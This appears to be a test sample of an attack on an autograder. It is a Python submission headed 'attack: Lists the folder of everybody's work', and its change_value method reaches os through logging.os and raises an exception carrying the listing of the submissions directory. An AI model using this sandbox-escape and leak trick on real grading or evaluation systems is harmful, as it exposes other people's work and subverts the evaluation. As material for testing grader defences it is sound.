# attack: Lists the folder of everybody's work.
# line: 75
# exercise: 06
# score: 2, the stub's
import logging


class Database:
    def __init__(self, latency=0.1):
        self.latency = latency
        self.value = 0

    def change_value(self, amount=1):
        raise ValueError(str(logging.os.listdir("@SUBMITTED@")))
